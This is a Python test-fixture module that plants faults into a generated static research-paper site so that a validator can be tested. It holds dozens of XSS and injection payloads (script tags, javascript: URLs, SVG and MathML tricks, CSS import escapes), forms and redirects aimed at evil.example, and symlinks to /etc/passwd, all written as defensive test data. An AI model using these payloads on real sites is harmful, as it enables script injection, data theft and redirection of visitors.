"""Faults that somebody, or some slip, may plant in a finished site or preview. Out: name -> what plants it in a folder.

Each is planted together with a fresh list of files, as one who knows of the list would do, unless it is about the list itself.
"""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path

from generator.csp import META, POLICY
from generator.kept import SITE_FILES, write_site_files

Plant = Callable[[Path], object]
PAPER = "papers/dual-caption-preference-optimization-for-diffusion-models/index.html"
ROOT = Path(__file__).parents[2]


def put(path: str, content: bytes | str = b"x") -> Plant:
    def plant(site: Path) -> None:
        target = site / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.unlink(missing_ok=True)
        target.write_bytes(content.encode() if isinstance(content, str) else content)

    return plant


def page_of(site: Path) -> str:
    """A paper's page: in a preview the one of the new paper."""
    return (
        PAPER
        if (site / PAPER).is_file()
        else min(p.relative_to(site).as_posix() for p in site.glob("papers/*/index.html"))
    )


def pages_of(site: Path) -> list[str]:
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("index.html"))


def edit(path: str, old: str, new: str, count: int = 1) -> Plant:
    """`path` "" is a paper's page; `old` is a pattern."""

    def plant(site: Path) -> None:
        name = path or page_of(site)
        text = (site / name).read_text("utf-8")
        changed = re.sub(old, new, text, count=count, flags=re.DOTALL)
        assert changed != text, f"{name} lacks {old}"
        put(name, changed)(site)

    return plant


def drop(path: str) -> Plant:
    return lambda site: (site / (path or page_of(site))).unlink()


def inside(html: str) -> Plant:
    return edit("", r"</main>", f"{html}</main>")


def head(html: str) -> Plant:
    return edit("", r"<title>", f"{html}<title>")


def both(*plants: Plant) -> Plant:
    return lambda site: [plant(site) for plant in plants]


def copy(path: str, to: str) -> Plant:
    return lambda site: shutil.copy(site / path, site / to)


def raw(old: bytes, new: bytes) -> Plant:
    def plant(site: Path) -> None:
        content = (site / page_of(site)).read_bytes()
        assert old in content
        put(page_of(site), content.replace(old, new, 1))(site)

    return plant


def large(path: str, size: int) -> Plant:
    def plant(site: Path) -> None:
        put(path, b"%PDF-1.7" if path.endswith("pdf") else b"\x89PNG\r\n\x1a\n")(site)
        os.truncate(site / path, size)

    return plant


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
EVIL = "https://evil.example/"
SCRIPT = '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'

STRANGE_FILES: dict[str, Plant] = {
    name: put(name, "<script>alert(1)</script>")
    for name in """
evil.htm evil.xhtml evil.html sw.js x.mjs papers/x.js assets/x.js assets/offprint/more.js assets/search/x.js x.shtml
x.php x.wasm x.swf x.xml x.rss x.xsl x.svgz x.jar x.exe x.mht x.pdf x.json x.bin x .env .git/config .hidden/index.html
assets/x.html assets/x.js.map assets/.x/y.css papers/x.css papers/x.txt x.zip
.well-known/x.js .well-known/x.htm .well-known/x.xhtml .well-known/x.xml .well-known/x/y.mht .well-known/.x
""".split()
}
FILES: dict[str, Plant] = {
    "a page without a policy": put("evil/index.html", "<!doctype html><html lang=en><head><meta charset=utf-8><title>x</title>"),
    "a script beside a page that asks for it": both(put("x.js", "alert(1)"), head('<script src="../../x.js"></script>')),
    "a script of ours in another place": copy("assets/search/head.js", "head.js"),
    "one byte more in the script of every page": edit("assets/search/head.js", r"\A", " "),
    "one byte more in a script of the search": edit("assets/search/core.js", r"\Z", ";"),
    "one byte more in a style": edit("assets/offprint/offprint.css", r"\A", " "),
    "another font": put("assets/offprint/fonts/inter-latin-wght-normal.woff2", b"wOF2 another"),
    "a font that is a page": put("assets/x.woff2", "<html>"),
    "a picture that is a page": put("assets/x.png", "<html><script>alert(1)</script>"),
    "a drawing with a script": put("x.svg", SVG.format("<script>alert(1)</script>")),
    "a drawing that does something": put("x.svg", SVG.format('<path onload="alert(1)"/>')),
    "a drawing with a page inside": put("x.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")),
    "a drawing that moves": put("x.svg", SVG.format('<set attributeName="href" to="javascript:alert(1)"/>')),
    "a drawing that asks another host": put("x.svg", SVG.format(f'<use xlink:href="{EVIL}x.svg#a"/>')),
    "a drawing with a style that asks another host": put("x.svg", SVG.format(f"<style>@import url({EVIL}x)</style>")),
    "a drawing that is a page": put("x.svg", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    "a drawing with an entity": put("x.svg", '<!DOCTYPE svg [<!ENTITY e "x">]>' + SVG.format("<text>&e;</text>")),
    "a drawing with a style sheet": put("x.svg", f'<?xml-stylesheet href="{EVIL}x.xsl"?>' + SVG.format("")),
    "an empty drawing": put("x.svg", b""),
    "a style that asks another host": put("assets/more.css", f"p {{ background: url({EVIL}x) }}"),
    "a style that asks in escapes": put("assets/more.css", f"p {{ background: u\\72 l({EVIL}x) }}"),
    "a style that imports in escapes": put("assets/more.css", f"@\\69mport '{EVIL}x';"),
    "a style that imports around a comment": put("assets/more.css", f"@import/**/'{EVIL}x';"),
    "a style with a set of pictures": put("assets/more.css", f"p {{ background: image-set('{EVIL}x' 1x) }}"),
    "a style with zero bytes": put("assets/more.css", b"p {}\0"),
    "a symbolic link": lambda site: (site / "link").symlink_to("/etc/passwd"),
    "a linked folder": lambda site: (site / "more").symlink_to(site / "papers"),
    "a pipe": lambda site: os.mkfifo(site / "pipe"),
    "a name that hosts refuse": put("assets/a:b.txt"),
    "a name that differs in case alone": lambda site: put("Search/index.html", (site / "search/index.html").read_bytes())(site),
    "a folder that differs in case alone": both(put("assets/More/a.txt"), put("assets/more/b.txt")),
    "a name that differs in its accents alone": both(put("assets/\u00e9.txt"), put("assets/e\u0301.txt")),
    "a name that turns its direction": put("assets/gpj\u202etxt.txt"),
    "a name on two lines": put("assets/a\u2028b.txt"),
    "a page larger than the memory": large("more/index.html", 1 << 40),
    "data larger than the memory": large("assets/x.json", 1 << 40),
    "a list that is a device": lambda site: ((site / SITE_FILES).unlink(), (site / SITE_FILES).symlink_to("/dev/zero")),
    "a list that is a pipe": lambda site: ((site / SITE_FILES).unlink(), os.mkfifo(site / SITE_FILES)),
    "a picture too large": large("assets/x.png", 20_000_001),
    "a file too large": large("assets/x.pdf", 100_000_001),
    "text that is none": put("assets/x.txt", b"\xff\xfe\x00"),
    "data that is none": put("assets/x.json", "{"),
    "a broken part of the search": edit("search/v1/manifest.json", r"\}\s*\Z", ""),
    "a part of the search that nothing names": put("search/v1/terms/0badcafe.json", "{}"),
    "no home": drop("index.html"),
}  # fmt: skip
LISTS: dict[str, Plant] = {
    "no list": drop(SITE_FILES),
    "a broken list": put(SITE_FILES, "{"),
    "a list of something else": put(SITE_FILES, '{"files": ["index.html"]}'),
    "a file more": put("assets/x.txt", "text"),
    "a page less": drop(""),
}
# One piece of markup a line, put into the text of a paper's page, and into its head.
INSIDE: dict[str, Plant] = {
    markup: inside(markup)
    for markup in r"""
<script>alert(1)</script>
<script type="module">alert(1)</script>
<script type="importmap">{}</script>
<script type="speculationrules">{}</script>
<script src="data:text/javascript,alert(1)"></script>
<script src="EVIL/x.js"></script>
<script src="../../assets/search/head.js">alert(1)</script>
<p onclick="alert(1)">x</p>
<p ONclick="alert(1)">x</p>
<input autofocus onfocus="alert(1)">
<details ontoggle="x" open>x</details>
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html,x">x</a>
<a href="vbscript:x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:x">x</a>
<a href="../" ping="EVIL/">x</a>
<a href="../" attributionsrc="EVIL/">x</a>
<iframe src="EVIL/"></iframe>
<iframe srcdoc="x"></iframe>
<iframe srcdoc="x" sandbox></iframe>
<iframe src="../../"></iframe>
<object data="EVIL/x"></object>
<embed src="EVIL/x">
<portal src="EVIL/"></portal>
<frame src="EVIL/">
<fencedframe></fencedframe>
<video src="EVIL/x"></video>
<audio src="EVIL/x"></audio>
<img src="EVIL/x.png">
<img src="//evil.example/x.png">
<img src="../../assets/offprint/icon.svg" srcset="EVIL/x 2x">
<img src="no-such.png">
<picture><source srcset="EVIL/x"></picture>
<form action="EVIL/"></form>
<form action="//evil.example/"></form>
<form action="../../search/" method="post"></form>
<form action="../../search/"><button formaction="EVIL/">x</button></form>
<form action="../../search/"><input type="password"></form>
<form action="../../search/"><input type="file"></form>
<form action="javascript:alert(1)"></form>
<input type="image" src="EVIL/">
<p style="background:url(EVIL/)">x</p>
<style>@import 'EVIL/';</style>
<style>p { background: url(EVIL/) }</style>
<svg><script>alert(1)</script></svg>
<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>
<svg><foreignObject><p>x</p></foreignObject></svg>
<svg><use href="EVIL/#a"/></svg>
<svg><image href="EVIL/x"/></svg>
<math><annotation-xml encoding="text/html"><p>x</p></annotation-xml></math>
<math><maction actiontype="statusline">x</maction></math>
<math><mi href="javascript:alert(1)">x</mi></math>
<template><p>x</p></template>
<xmp>x</xmp>
<noembed>x</noembed>
<plaintext>
<marquee>x</marquee>
<x-y>x</x-y>
<p contenteditable>x</p>
<p is="x-y">x</p>
<p slot="x">x</p>
<base href='/'>
<!--><img src=EVIL/x>-->
<!---><img src='EVIL/x'>-->
<!-- --!><img src='EVIL/x'><!-- -->
<![CDATA[><img src='EVIL/x'>]]>
<?x ><img src='EVIL/x'>?>
<p title='a"b<c'>x</p>
<img title="<p title="x" src="EVIL/x">
<img/src='EVIL/x'>
<a href='../'/onclick='x'>x</a>
<p id=content>x</p>
<a href="../no-such-page/">x</a>
<a href="../../../../">x</a>
<a href="#no-such-place">x</a>
<svg><title><meta http-equiv="refresh" content="9; url=EVIL/"></title></svg>
<svg><style><meta http-equiv="refresh" content="9; url=EVIL/"></style></svg>
<math><style><img src="EVIL/x"></style></math>
<svg><textarea><img src="EVIL/x"></textarea></svg>
<title/>
< p>x
<>
</ p>
<p
""".strip()
    .replace("EVIL/", EVIL)
    .split("\n")
}
HEADS: dict[str, Plant] = {
    markup: head(markup)
    for markup in r"""
<meta http-equiv="refresh" content="0; url=EVIL/">
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
<meta http-equiv="set-cookie" content="a=b">
<meta http-equiv="origin-trial" content="x">
<meta charset="utf-7">
<meta name="monetization" content="$x">
<link rel="stylesheet" href="EVIL/x.css">
<link rel="stylesheet" href="data:text/css,p{}">
<link rel="preconnect" href="EVIL/">
<link rel="dns-prefetch" href="EVIL/">
<link rel="prerender" href="EVIL/">
<link rel="manifest" href="EVIL/x">
<link rel="import" href="../../x">
<link rel="canonical" href="EVIL/">
<meta property="og:url" content="EVIL/">
<script src="EVIL/x.js" defer></script>
<title>Another</title><svg>
""".strip()
    .replace("EVIL/", EVIL)
    .split("\n")
}
PAGES: dict[str, Plant] = {
    "a policy twice": head(META),
    "no policy": edit("", re.escape(META), ""),
    "a policy in a comment": edit("", re.escape(META), f"<!-- {META} -->"),
    "a weaker policy": edit("", re.escape(POLICY), POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")),
    "a policy with a hash": edit("", re.escape(POLICY), POLICY.replace("script-src 'self'", "script-src 'self' 'sha256-AAAA'")),
    "a policy with another host": edit("", re.escape(POLICY), POLICY.replace("script-src 'self'", f"script-src 'self' {EVIL}")),
    "a policy that comes late": edit("", '(<meta charset="utf-8">)', r'\1<script src="../../assets/search/head.js"></script>'),
    "a policy that only reports": edit("", 'http-equiv="Content-Security-Policy"', 'http-equiv="Content-Security-Policy-Report-Only"'),
    "no character set": edit("", '<meta charset="utf-8">', ""),
    "another character set": edit("", '<meta charset="utf-8">', '<meta charset="utf-16">'),
    "no language": edit("", '<html lang="en"', "<html"),
    "no title": edit("", "<title>[^<]*</title>", "<title></title>"),
    "no doctype": edit("", "<!doctype html>", ""),
    "another doctype": edit("", "<!doctype html>", '<!DOCTYPE html SYSTEM "about:legacy-compat">'),
    "a canonical address elsewhere": edit("", '<link rel="canonical" href="[^"]*"', f'<link rel="canonical" href="{EVIL}"'),
    "the canonical address of another page": edit("", '(<link rel="canonical" href="[^"]*/)papers/[^"]*"', r"\1about/" + '"'),
    "no canonical address": edit("", '<link rel="canonical" href="[^"]*">', ""),
    "a manifest of the browser's": edit("", '<html lang="en"', '<html manifest="x" lang="en"'),
    "a zero byte": raw(b"</main>", b"\0<p>x</p></main>"),
    "a byte that is no UTF-8": raw(b"</main>", b"\xff</main>"),
    "a mark of another encoding": raw(b"<!doctype", b"\xef\xbb\xbf<!doctype"),
    "UTF-16": lambda site: put(page_of(site), (site / page_of(site)).read_text("utf-8").encode("utf-16"))(site),
    "an empty page": lambda site: put(page_of(site), b"")(site),
    "a page of text": lambda site: put(page_of(site), b"gone")(site),
    "a page too large": edit("", "</main>", "x" * 4_000_001 + "</main>"),
    "a search that leads away": edit("", 'action="[^"]*"', f'action="{EVIL}"'),
}  # fmt: skip

ANYWHERE = STRANGE_FILES | FILES | LISTS | INSIDE | HEADS | PAGES

API, PART = "api/v1/index.json", "api/v1/papers/0001.json"
SITE_ALONE: dict[str, Plant] = {
    "two entries with one id": edit("feed.xml", r"(<entry>\n<id>)[^<]*", r"\1urn:uuid:1", 2),
    "an entry without an id": edit("feed.xml", r"(<entry>\n)<id>[^<]*</id>", r"\1"),
    "a day that is none": edit("feed.xml", r"<updated>2025-03-14", "<updated>2025-02-30"),
    "a time that is none": edit("feed.xml", r"<published>[^<]*", "<published>yesterday"),
    "an entry without a day": edit("feed.xml", r"(<entry>.*?)<updated>[^<]*</updated>", r"\1"),
    "an entry that leads away": edit("feed.xml", r'(<entry>.*?rel="alternate"[^>]*href=)"[^"]*"', rf'\1"{EVIL}"'),
    "a feed that is elsewhere": edit("feed.xml", r'(rel="self"[^>]*href=)"[^"]*"', rf'\1"{EVIL}"'),
    "a feed with a page in it": edit("feed.xml", r"<summary>", '<summary type="html">'),
    "a feed with a file in it": edit("feed.xml", r"</entry>", f'<content src="{EVIL}"/></entry>'),
    "a feed with a style sheet": edit("feed.xml", r"<feed", f'<?xml-stylesheet type="text/xsl" href="{EVIL}"?><feed'),
    "a feed with an entity": edit("feed.xml", r"<feed", '<!DOCTYPE feed [<!ENTITY e "x">]><feed'),
    "half a feed": edit("feed.xml", r"</feed>", ""),
    "a feed of another kind": put("feed.xml", "<rss/>"),
    "a feed that nothing names": both(copy("feed.xml", "tags/feed.xml"), edit("tags/feed.xml", "/feed.xml", "/tags/feed.xml", 9)),
    "items with one id": edit("feed.json", r'"id":"[^"]*"', '"id":"1"', 2),
    "an item on no day": edit("feed.json", r'"date_published":"[^"]*"', '"date_published":"2025-02-30T00:00:00Z"'),
    "an item with a page in it": edit("feed.json", r'"content_text"', '"content_html":"<script>","content_text"'),
    "an item that leads away": edit("feed.json", r'"url":"[^"]*"', f'"url":"{EVIL}"'),
    "a JSON Feed that is elsewhere": edit("feed.json", r'"feed_url":"[^"]*"', f'"feed_url":"{EVIL}"'),
    "a JSON Feed of another version": edit("feed.json", r"version/1\.1", "version/9"),
    "a JSON Feed with a hub": edit("feed.json", r'"items"', f'"hubs":[{{"type":"x","url":"{EVIL}"}}],"items"'),
    "no sitemap": drop("sitemap.xml"),
    "a sitemap that leads away": edit("sitemap.xml", r"<loc>[^<]*", f"<loc>{EVIL}"),
    "a sitemap with no day": edit("sitemap.xml", r"<lastmod>[^<]*", "<lastmod>2025-13-01"),
    "a sitemap that lacks a page": edit("sitemap.xml", r"<url>.*?</url>", ""),
    "a sitemap with a style sheet": edit("sitemap.xml", r"<urlset", f'<?xml-stylesheet href="{EVIL}"?><urlset'),
    "a sitemap with a script": edit("sitemap.xml", r"</urlset>", f"{SCRIPT}</urlset>"),
    "a search with a script": edit("opensearch.xml", r"</OpenSearchDescription>", f"{SCRIPT}</OpenSearchDescription>"),
    "a listed page that must not be found": head('<meta name="robots" content="noindex">'),
    "no API": drop(API),
    "an API of nothing": put(API, "{}"),
    "a wrong count": edit(API, r'"papers":\d+', '"papers":99'),
    "another part than the index says": edit(PART, r"The ", "A "),
    "no part": drop(PART),
    "a part that no index names": put("api/v1/papers/0002.json", '{"papers": []}'),
    "a file of the API that no index names": put("api/v1/more.json", "{}"),
    "another schema": put("api/v1/schema.json", "{}"),
    "no schema": drop("api/v1/schema.json"),
    "half a list of citations": edit("papers.bib", r"\}\s*\Z", ""),
    "citations with one key": edit("papers.bib", r"@(\w+)\{[^,]*,", r"@\1{one,", 2),
    "text between citations": edit("papers.bib", r"\n\n@", "\n\nwords\n\n@"),
    "citations that nothing names": copy("papers.bib", "more.bib"),
    "half a RIS record": edit("digests/2025-03-14-trending-papers/papers.ris", r"ER  - \s*\Z", ""),
    "a line that is no RIS": edit("digests/2025-03-14-trending-papers/papers.ris", r"\nTI ", "\nwords\nTI "),
    "half a list of CSL records": edit("digests/2025-03-14-trending-papers/papers.json", r"\]\s*\Z", ""),
    "CSL records with one id": edit("digests/2025-03-14-trending-papers/papers.json", r'"id": "[^"]*"', '"id": "one"', 2),
    "CSL of nothing": put("digests/2025-03-14-trending-papers/papers.json", "{}"),
    "a search description that leads away": edit("opensearch.xml", r'template="[^"]*"', f'template="{EVIL}?q={{searchTerms}}"'),
    "a search description of nothing": put("opensearch.xml", "<x/>"),
    "robots that lead away": edit("robots.txt", r"Sitemap: .*", f"Sitemap: {EVIL}"),
    "bytes for machines to read": put("llms.txt", b"\xff\0"),
    "a page among what hosts ask for": put(".well-known/x/index.html", "<script>alert(1)</script>"),
    "an empty CNAME": put("CNAME", b""),
    "a relative address on the page of what is not there": edit("404.html", r'href="/tags/"', 'href="tags/"'),
    "one title on all pages": lambda site: [edit(page, "<title>[^<]*", "<title>1")(site) for page in pages_of(site)],
}  # fmt: skip
PREVIEW_ALONE: dict[str, Plant] = {
    **{name: put(name, content) for name, content in {
        "sitemap.xml": "<urlset/>", "feed.xml": "<feed/>", "feed.json": "{}", "api/v1/index.json": "{}", "robots.txt": "User-agent: *\n",
        "CNAME": "evil.example", ".nojekyll": "", "_headers": "/*\n", "_redirects": "/* //evil.example/\n", ".htaccess": "x\n",
        ".well-known/security.txt": "Contact: x\n", "opensearch.xml": "<x/>", "papers.bib": "", "404.html": "<p>",
    }.items()},
    "a page that may be found": edit("", '<meta name="robots" content="noindex">', ""),
    "a page that says index": edit("", 'content="noindex"', 'content="index"'),
    "a page that leads to the site at once": head('<meta http-equiv="refresh" content="0; url=/">'),
    "a picture of the site's": inside('<img src="https://papers.example.org/x.png">'),
    "a form of another site": edit("", 'action="[^"]*"', 'action="https://papers.example.org.evil.example/"'),
    "a preview too large": both(*(large(f"assets/{n}.png", 5_000_000) for n in range(5))),
}  # fmt: skip


def planted(site: Path, name: str, plant: Plant) -> None:
    """Plant a fault in a copy of a site, and bring its list up to date as far as the fault leaves one."""
    plant(site)
    if name not in LISTS and (site / SITE_FILES).is_file():
        write_site_files(site)
